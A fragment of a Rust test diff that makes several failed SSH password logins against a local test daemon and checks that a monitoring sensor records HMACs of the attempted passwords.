+    for i in 0..5 {
+        let o = sshpass(
+            addr,
+            &format!("user{i}"),
+            &format!("Zq-kill-{i}"),
+            &opts,
+            Some("true"),
+        );
+        assert!(stderr(&o).contains("Permission denied"), "{}", stderr(&o));
+    }
+    d.kill();
+    let events = sensor.events();
+    let stored: Vec<String> = auths(&events, "password")
+        .iter()
+        .map(|e| e["event"]["password"]["hmac"].as_str().unwrap().to_string())
+        .collect();
+    let answered: Vec<String> = (0..5)
+        .map(|i| sensor.password_hmac(&format!("Zq-kill-{i}")))
+        .collect();
+    assert_eq!(stored, answered);
+}
